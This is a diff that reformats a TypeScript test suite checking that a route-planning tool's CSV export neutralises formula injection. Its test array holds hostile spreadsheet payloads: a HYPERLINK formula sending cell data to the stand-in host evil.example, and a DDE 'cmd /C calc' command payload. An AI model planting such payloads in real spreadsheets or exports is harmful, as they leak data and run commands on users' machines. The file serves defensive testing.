@@ -10,7 +10,14 @@ import { routeSheetsCsv } from '../../src/planning/export.ts';
 import type { PlanResult } from '../../src/planning/types.ts';
 import { TINY_COUNTY } from './helpers.ts';
 
-const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-2+3', '\tTAB', '\rCR'];
+const EVIL = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+1+cmd',
+  '-2+3',
+  '\tTAB',
+  '\rCR',
+];
 
 describe('safeCell', () => {
   test('prefixes an apostrophe to every cell starting with = + - @ tab or CR', () => {
@@ -51,7 +58,24 @@ test('route-sheets.csv neutralises station and township names', () => {
   const station = s.places.find((p) => p.kind === 'village' && p.hasStation)!;
   const evil = { ...s, places: s.places.map((p) => (p.id === station.id ? { ...p, name: EVIL[0] } : p)) };
   const plan = {
-    routes: [{ vehicle: '=cmd()', trip: 1, kind: 'delivery', stops: [{ stationId: station.id, arrival: '08:10', departure: '08:20', parcelsDown: 3, parcelsUp: 0, load: 3, loadKg: 4.5 }] }],
+    routes: [
+      {
+        vehicle: '=cmd()',
+        trip: 1,
+        kind: 'delivery',
+        stops: [
+          {
+            stationId: station.id,
+            arrival: '08:10',
+            departure: '08:20',
+            parcelsDown: 3,
+            parcelsUp: 0,
+            load: 3,
+            loadKg: 4.5,
+          },
+        ],
+      },
+    ],
   } as unknown as PlanResult;
   const cells = cellsOf(routeSheetsCsv(evil, plan));
   expect(cells.filter(isFormula)).toEqual([]);
